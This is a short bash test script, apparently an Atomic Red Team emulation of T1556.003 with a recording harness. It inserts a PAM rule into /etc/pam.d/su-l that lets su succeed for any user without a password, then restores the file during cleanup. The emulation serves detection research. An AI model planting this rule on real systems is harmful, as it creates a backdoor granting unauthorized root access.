#!/usr/bin/env bash
# Atomic Red Team T1556.003-1: Malicious PAM rule
# atomic GUID 4b9dde80-ae22-44b1-a82a-644bf009eb9c; technique T1556.003
# record.sh runs `case.sh run DIR` under the agent (recorded), then `case.sh cleanup DIR`.
W="${2:?usage: $0 run|cleanup DIR}"
cd "$W" || exit 1
run() {
    cp /etc/pam.d/su-l "$W/su-l.bak"
    sed -i "1s,^,auth sufficient pam_succeed_if.so uid >= 0\n,g" /etc/pam.d/su-l
}
cleanup() {
    cp "$W/su-l.bak" /etc/pam.d/su-l
}
"$1"
